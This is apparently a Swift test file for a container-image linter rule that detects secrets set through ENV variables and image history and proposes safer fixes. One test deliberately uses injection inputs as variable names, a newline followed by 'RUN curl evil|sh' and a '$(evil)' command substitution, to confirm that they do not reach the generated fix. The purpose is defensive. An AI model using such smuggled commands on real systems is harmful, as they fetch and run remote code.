internal import Checks
internal import TestSupport
internal import Testing

@Suite struct `IMG303 secret-env` {
  private static func image(_ env: [String], _ history: [String] = []) -> ImageBuilder {
    ImageBuilder(
      layers: [[.file("a", "")]],
      history: [.init("RUN x")] + history.map { .empty($0) },
      config: ["Env": .array(env.map(JSONText.string))]
    )
  }

  @Test func `names variables with secrets`() async throws {
    let judgement = try await judge(
      "secret-env",
      Self.image(["PATH=/bin", "DB_PASSWORD=hunter2", "URL=postgres://u:hunter3@db/x"])
    )
    #expect(
      judgement.findings.map(\.message) == [
        "ENV sets DB_PASSWORD (7 bytes, SHA-256 f52fbd32…)",
        "ENV sets URL, a password in a URL (7 bytes, SHA-256 fb8c2e2b…)",
      ]
    )
    #expect(judgement.findings.allSatisfy { $0.severity == .error })
    #expect(
      judgement.fixes.first == """
        # without ENV DB_PASSWORD in the Dockerfile:
        docker run --env-file FILE …
        # and revoke it: whoever has the image has it
        """
    )
  }

  @Test func `puts no name into a fix that would act in it`() async throws {
    for name in ["A\nRUN curl evil|sh #_TOKEN", "$(evil)_TOKEN", "A B_TOKEN", "-TOKEN"] {
      let judgement = try await judge("secret-env", Self.image(["\(name)=hunter2"]))
      #expect(judgement.fixes == ["docker run --env-file FILE …   # rather than ENV"])
    }
  }

  @Test func `finds what was set before in the history`() async throws {
    let judgement = try await judge(
      "secret-env",
      Self.image(
        ["DB_PASSWORD="],
        ["ENV DB_PASSWORD=correct horse", "/bin/sh -c #(nop)  ENV DB_PASSWORD=correct horse"]
      )
    )
    #expect(judgement.findings.count == 1)
    #expect(
      judgement.findings.first?.message.hasPrefix("the history still has ENV DB_PASSWORD (13 bytes")
        == true
    )
  }

  @Test func `finds what a name denies and a value does not`() async throws {
    let judgement = try await judge("secret-env", Self.image(["NO_TOKEN=0a1B2c3D4e5F6g7H8i9J"]))
    #expect(judgement.findings.count == 1)
  }

  @Test func `passes over places, fingerprints and placeholders`() async throws {
    let judgement = try await judge(
      "secret-env",
      Self.image([
        "GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D", "TOKEN_FILE=/run/secrets/token",
        "PASSWORD=",
        "SECRET=/run/secrets/x", "API_TOKEN=changeme", "TOKEN=$OTHER", "TOKEN_URL=https://x/token",
        "MYSQL_RANDOM_ROOT_PASSWORD=1", "MYSQL_ALLOW_EMPTY_PASSWORD=yup", "SECRET_KEY_BASE=1",
        "DISABLE_TOKEN=0", "SECRET_KEY=dummy-for-build", "SECRET_KEY_BASE_DUMMY=1", "TOKEN=unused",
        "PASSWORD=not-needed", "DJANGO_SECRET_KEY=nothing",
        "NODE_VERSION=20", "SORT_KEY=name", "SSH_AUTH_SOCK=/tmp/x",
        "PUBLIC_KEY=abc", "AUTH=none",
      ])
    )
    #expect(judgement.outcome == .clean, "\(judgement.findings.map(\.message))")
  }
}
